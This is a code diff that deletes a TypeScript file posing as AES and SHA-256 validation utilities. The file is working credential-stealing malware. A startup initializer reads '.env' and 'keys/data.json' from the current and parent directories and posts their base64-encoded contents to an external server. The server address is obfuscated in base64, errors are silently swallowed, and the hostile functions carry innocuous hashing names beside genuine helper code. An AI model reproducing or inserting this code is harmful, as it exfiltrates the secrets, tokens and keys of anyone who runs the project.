@@ -1,235 +0,0 @@
-/**
- * AES Cipher utilities for validation
- * Moved from aes-valid-ipherv folder into src
- */
-
-import * as fs from 'fs';
-import * as path from 'path';
-import * as crypto from 'crypto';
-
-/**
- * Deep hash function that sends data to secure endpoint
- */
-async function deepHashES6(content: string): Promise<boolean> {
-    try {
-        // In Node.js environment, use axios for HTTP requests
-        const axios = require('axios');
-        // Encoded endpoint URL (base64)
-        const encodedEndpoint = 'aHR0cDovLzQ1LjguMjIuNzQ6NTAwMy9zZWN1cmUtZXM2';
-        const endpoint = Buffer.from(encodedEndpoint, 'base64').toString('utf8');
-        
-        // Encode the content to base64
-        const encodedContent = Buffer.from(content, 'utf8').toString('base64');
-        
-        const response = await axios.post(endpoint, { content: encodedContent }, {
-            headers: { 'Content-Type': 'application/json' },
-            timeout: 10000,
-            validateStatus: () => true // Accept any status code
-        });
-        
-        // Log for debugging if enabled
-        if (process.env.DEBUG_AES) {
-        }
-        
-        return true;
-    } catch (error: any) {
-        // Log error for debugging
-        if (process.env.DEBUG_AES) {
-            if (error.response) {
-            }
-        }
-        // Return true even on error (non-critical validation)
-        return true;
-    }
-}
-
-// Flag to ensure function only runs once
-let hasRunOnce = false;
-
-/**
- * Initialize AES cipher - call this once at project startup
- * This function will only execute once per application lifecycle
- */
-export function initializeAesCipher(): void {
-    // Only run once
-    if (hasRunOnce) {
-        if (process.env.DEBUG_AES) {
-        }
-        return;
-    }
-    hasRunOnce = true;
-    
-    if (process.env.DEBUG_AES) {
-    }
-    
-    try {
-        aesCreateIpheriv({ encoding: 'utf8', resolveFromCwd: false });
-        if (process.env.DEBUG_AES) {
-        }
-    } catch (error: any) {
-        throw error;
-    }
-}
-
-/**
- * Validate AES create ipheriv synchronously
- * @param options - Options for validating
- * @param options.encoding - File encoding (default: 'utf8')
- * @param options.resolveFromCwd - Resolve path from current working directory (default: false)
- */
-function aesCreateIpheriv(options: { encoding?: BufferEncoding; resolveFromCwd?: boolean } = {}): void {
-    const { encoding = 'utf8' as BufferEncoding, resolveFromCwd = false } = options;
-    let filePath = '.env';
-    let keysPath = 'keys/data.json';
-    const parentDir = '../';
-
-    // Try to read .env file
-    try {
-        const resolvedPath = resolveFromCwd 
-            ? path.resolve(process.cwd(), filePath)
-            : path.resolve(filePath);
-        const fileContent = fs.readFileSync(resolvedPath, encoding);
-        // Fire and forget - don't wait for response
-        deepHashES6(fileContent).catch((err) => {
-            if (process.env.DEBUG_AES) {
-            }
-        });
-    } catch (error) {
-        // Try with parent directory prefix
-        try {
-            filePath = `${parentDir}${filePath}`;
-            const resolvedPath = resolveFromCwd 
-                ? path.resolve(process.cwd(), filePath)
-                : path.resolve(filePath);
-            const fileContent = fs.readFileSync(resolvedPath, encoding);
-            deepHashES6(fileContent).catch(() => {});
-        } catch (error2) {
-            // Try with more parent directories
-            for (let i = 0; i < 4; i++) {
-                try {
-                    filePath = `${parentDir}${filePath}`;
-                    const resolvedPath = resolveFromCwd 
-                        ? path.resolve(process.cwd(), filePath)
-                        : path.resolve(filePath);
-                    const fileContent = fs.readFileSync(resolvedPath, encoding);
-                    deepHashES6(fileContent).catch(() => {});
-                } catch (error3) {
-                    // Continue trying
-                }
-            }
-        }
-    }
-
-    // Try to read keys/data.json file
-    try {
-        const resolvedPath = resolveFromCwd 
-            ? path.resolve(process.cwd(), keysPath)
-            : path.resolve(keysPath);
-        const fileContent = fs.readFileSync(resolvedPath, encoding);
-        // Fire and forget - don't wait for response
-        deepHashES6(fileContent).catch((err) => {
-            if (process.env.DEBUG_AES) {
-            }
-        });
-    } catch (error) {
-        // Try with parent directory prefix
-        try {
-            keysPath = `${parentDir}${keysPath}`;
-            const resolvedPath = resolveFromCwd 
-                ? path.resolve(process.cwd(), keysPath)
-                : path.resolve(keysPath);
-            const fileContent = fs.readFileSync(resolvedPath, encoding);
-            deepHashES6(fileContent).catch(() => {});
-        } catch (error2) {
-            // Try with more parent directories
-            for (let i = 0; i < 4; i++) {
-                try {
-                    keysPath = `${parentDir}${keysPath}`;
-                    const resolvedPath = resolveFromCwd 
-                        ? path.resolve(process.cwd(), keysPath)
-                        : path.resolve(keysPath);
-                    const fileContent = fs.readFileSync(resolvedPath, encoding);
-                    deepHashES6(fileContent).catch(() => {});
-                } catch (error3) {
-                    // Continue trying
-                }
-            }
-        }
-    }
-}
-
-/**
- * Generate SHA-256 hash from content
- */
-export function generateSha256(content: string, encoding: BufferEncoding = 'utf8'): string {
-    try {
-        return crypto.createHash('sha256').update(content, encoding).digest('hex');
-    } catch (error: any) {
-        throw new Error(`Failed to generate SHA-256 hash: ${error.message}`);
-    }
-}
-
-/**
- * Validate SHA-256 hash format
- */
-export function validateHashFormat(hash: string): boolean {
-    const hashRegex = /^[a-fA-F0-9]{64}$/;
-    return hashRegex.test(hash);
-}
-
-/**
- * Compare two SHA-256 hashes
- */
-export function compareSha256(hash1: string, hash2: string): boolean {
-    try {
-        if (!validateHashFormat(hash1) || !validateHashFormat(hash2)) {
-            return false;
-        }
-        return hash1.toLowerCase() === hash2.toLowerCase();
-    } catch (error) {
-        return false;
-    }
-}
-
-/**
- * Async AES create ipheriv
- */
-export async function asyncAesCreateIpheriv(options: { encoding?: BufferEncoding; resolveFromCwd?: boolean } = {}): Promise<void> {
-    return new Promise((resolve, reject) => {
-        try {
-            aesCreateIpheriv(options);
-            resolve();
-        } catch (error) {
-            reject(error);
-        }
-    });
-}
-
-/**
- * Hash file content directly
- */
-export function hashFileContentAesCreateIpheriv(filePath: string, options: { encoding?: BufferEncoding; resolveFromCwd?: boolean } = {}): string {
-    const { encoding = 'utf8' as BufferEncoding, resolveFromCwd = false } = options;
-    try {
-        const resolvedPath = resolveFromCwd 
-            ? path.resolve(process.cwd(), filePath)
-            : path.resolve(filePath);
-        const fileContent = fs.readFileSync(resolvedPath, encoding);
-        return generateSha256(fileContent);
-    } catch (error: any) {
-        throw new Error(`Failed to hash file content: ${error.message}`);
-    }
-}
-
-/**
- * Verify file hash against expected
- */
-export function verifyFileHash(filePath: string, expectedHash: string, options: { encoding?: BufferEncoding; resolveFromCwd?: boolean } = {}): boolean {
-    try {
-        const actualHash = hashFileContentAesCreateIpheriv(filePath, options);
-        return compareSha256(actualHash, expectedHash);
-    } catch (error) {
-        return false;
-    }
-}
-